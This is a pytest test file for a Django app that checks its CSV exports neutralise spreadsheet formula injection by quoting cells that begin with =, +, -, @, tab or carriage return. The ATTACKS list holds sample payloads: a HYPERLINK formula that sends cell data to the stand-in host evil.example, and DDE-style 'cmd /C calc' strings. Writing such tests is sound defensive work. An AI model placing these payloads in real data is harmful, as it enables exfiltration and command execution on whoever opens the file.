"""Formula injection: every CSV and XLSX the product writes opens as data, never as a formula.

A text cell beginning with = + - @ tab or carriage return comes out with a leading single
quote (OWASP, "CSV Injection"); ordinary text, numbers (negative ones too) and dates come out
as they went in. Each writer is read back with csv or openpyxl, as a spreadsheet would read it.
"""

import csv
import io
from typing import Any

import pytest
from django.conf import settings
from django.contrib import admin
from django.test import Client
from django.utils import timezone

from emgtracker.rest import CSVRenderer
from emgtracker.spreadsheets import safe_cell
from meetings.models import Attendance, Meeting, Person
from tests.factories import ProgressUpdateFactory
from workstreams.briefing import briefing_pack_build
from workstreams.models import ProgressUpdate, Workstream

# What an attacker writes: each dangerous first character, before a formula that would run.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]
# What must come out unchanged.
HARMLESS = ["Ordinary text, with a - dash", "2023-10-10", "-3", "-0.5", "+44", "1e-3", ""]


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


# The one function -------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_text_that_begins_like_a_formula_gets_a_quote(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", [*HARMLESS, -5, -2.5, 0, None, True])
def test_ordinary_text_numbers_and_dates_are_unchanged(value: Any) -> None:
    assert safe_cell(value) == value


# The API's CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_api_csv_neutralises_an_update_summary(record: None, client: Client, attack: str) -> None:
    ProgressUpdateFactory.create(
        summary=attack, state=ProgressUpdate.State.PUBLISHED, published_at=timezone.now()
    )

    response = client.get("/api/v1/updates/?format=csv&meeting=som29-senior")

    assert response.status_code == 200
    summaries = [row["summary"] for row in read_csv(response.content)]
    assert "'" + attack in summaries
    assert attack not in summaries


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_api_csv_neutralises_a_participant_name(record: None, client: Client, attack: str) -> None:
    meeting = Meeting.objects.get(slug="som29-senior")
    person = Person.objects.create(slug="mallory", name=attack)
    Attendance.objects.create(meeting=meeting, person=person, listed_affiliation=attack)

    response = client.get("/api/v1/meetings/som29-senior/participants/?format=csv&page_size=200")

    [row] = [row for row in read_csv(response.content) if row["person"] == "mallory"]
    assert row["name"] == "'" + attack
    assert row["listed_affiliation"] == "'" + attack


def test_api_csv_keeps_ordinary_text_numbers_and_dates(record: None, client: Client) -> None:
    ProgressUpdateFactory.create(
        summary="Ordinary text - with a dash",
        state=ProgressUpdate.State.PUBLISHED,
        published_at=timezone.now(),
    )

    updates = read_csv(client.get("/api/v1/updates/?format=csv&meeting=som29-senior").content)
    meetings = read_csv(client.get("/api/v1/meetings/?format=csv").content)

    assert "Ordinary text - with a dash" in [row["summary"] for row in updates]
    som29 = next(row for row in meetings if row["slug"] == "som29-senior")
    assert som29["date"] == "2023-10-10"
    assert som29["som_number"] == "29"


def test_the_renderer_keeps_negative_numbers_and_quotes_formulas() -> None:
    data = [{"n": -5, "x": -2.5, "t": "-3", "d": "2023-10-10", "f": "=1+1", "m": "-1+1"}]

    [row] = read_csv(CSVRenderer().render(data))

    assert row == {"n": "-5", "x": "-2.5", "t": "-3", "d": "2023-10-10", "f": "'=1+1", "m": "'-1+1"}


# The briefing pack's CSV ------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_briefing_pack_csv_neutralises_a_workstream_title(record: None, attack: str) -> None:
    workstream = Workstream.objects.get(slug="img-biodiversity")
    Workstream.objects.filter(pk=workstream.pk).update(title=attack)
    ProgressUpdateFactory.create(
        workstream=workstream, state=ProgressUpdate.State.PUBLISHED, published_at=timezone.now()
    )

    pack = briefing_pack_build(meeting=Meeting.objects.get(slug="som29-senior"))

    [row] = [row for row in read_csv(pack.csv) if row["workstream"] == "img-biodiversity"]
    assert row["title"] == "'" + attack


def test_briefing_pack_csv_keeps_ordinary_titles(record: None) -> None:
    pack = briefing_pack_build(meeting=Meeting.objects.get(slug="som28-mid-term"))

    rows = read_csv(pack.csv)

    assert {"Issue Management Group on Biodiversity"} <= {row["title"] for row in rows}
    assert not any(row["title"].startswith("'") for row in rows)


# No other writer: the admin exports no spreadsheet --------------------------------------------


def test_the_admin_offers_no_spreadsheet_export() -> None:
    """The writers above are every spreadsheet the product writes: django-import-export, whose
    exports the admin would write unchecked, is gone (the participants import reads files only,
    meetings/imports/), and no admin offers an export of its own."""
    assert "import_export" not in settings.INSTALLED_APPS
    assert not [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats") or hasattr(model_admin, "export_action")
    ]
